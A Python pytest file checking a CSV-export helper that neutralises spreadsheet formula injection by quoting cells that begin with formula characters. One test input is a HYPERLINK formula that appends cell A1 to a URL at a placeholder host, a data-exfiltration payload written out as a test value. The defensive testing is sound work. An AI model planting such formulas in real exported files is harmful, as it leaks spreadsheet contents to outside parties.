"""Cells a spreadsheet would run as a formula are written as text."""

import pytest

from yomitoru.lib.csvsafe import spreadsheet_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_lead_is_quoted(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["", "山田 太郎", "123456", "'already text", " =1", "a=b"])
def test_other_text_is_unchanged(text: str) -> None:
    assert spreadsheet_safe(text) == text
